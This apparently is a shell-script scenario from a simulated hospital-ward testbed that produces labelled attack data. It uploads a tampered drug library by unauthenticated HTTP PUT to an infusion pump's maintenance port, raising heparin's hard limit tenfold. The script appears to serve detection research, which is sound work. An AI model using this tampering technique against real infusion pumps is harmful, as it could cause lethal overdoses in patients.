# Drug-library tampering: the attacker uploads a modified drug library to pump 1's maintenance
# service (HTTP PUT, no credentials), raising heparin's hard limit from 2500 to 25000 units/h.
# The pump installs it and reports the new library version ("2026.3-m") in its next PCD-01.
DEFAULT_DURATION=30
attack_drug_library_tampering() {
  local t0 t1
  drug_library 2026.3-m 25000 > "$out/logs/library-tampered.json"
  t0=$(now)
  run_in attacker library-upload 15 curl -sS -o /dev/null -w 'upload %{http_code}\n' -X PUT \
    -H 'Content-Type: application/json' --data-binary @"$out/logs/library-tampered.json" \
    http://10.10.2.21:8080/druglibrary || return 1
  t1=$(now)
  label drug_library_tampering T0836 attacker pump1 "$t0" "$t1" \
    "HTTP PUT of a drug library (version 2026.3-m, heparin hard limit 25000 units/h) to PUMP0021's maintenance port from 10.10.9.66"
}
scenario_run() {
  start_ward "$1"
  sleep 8
  attack_drug_library_tampering
}
